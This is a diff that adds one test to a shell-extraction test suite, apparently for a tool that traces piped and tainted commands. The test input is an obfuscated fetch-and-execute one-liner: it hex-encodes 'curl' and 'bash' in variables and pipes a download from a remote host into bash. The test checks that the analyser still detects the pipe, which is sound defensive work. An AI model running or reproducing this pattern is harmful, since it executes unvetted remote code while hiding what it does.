@@ -169,6 +169,16 @@ describe('shell extraction', () => {
     expect(bash.stdin.has(T.FETCHED)).toBe(true);
   });
 
+  it('resolves a pipeline stage named through a variable, as a command name is', async () => {
+    const m = await model(
+      'bash',
+      "c=$'\\x63\\x75\\x72\\x6c'\nb=$'\\x62\\x61\\x73\\x68'\n$c -s https://x.io/i | $b",
+    );
+    expect(call(m, 'curl').pipedTo).toEqual(['bash']);
+    const bash = m.calls.find((c) => c.callee === 'bash')!;
+    expect(bash.stdin.has(T.FETCHED)).toBe(true);
+  });
+
   it('taints command substitutions and process substitutions', async () => {
     const m = await model(
       'bash',
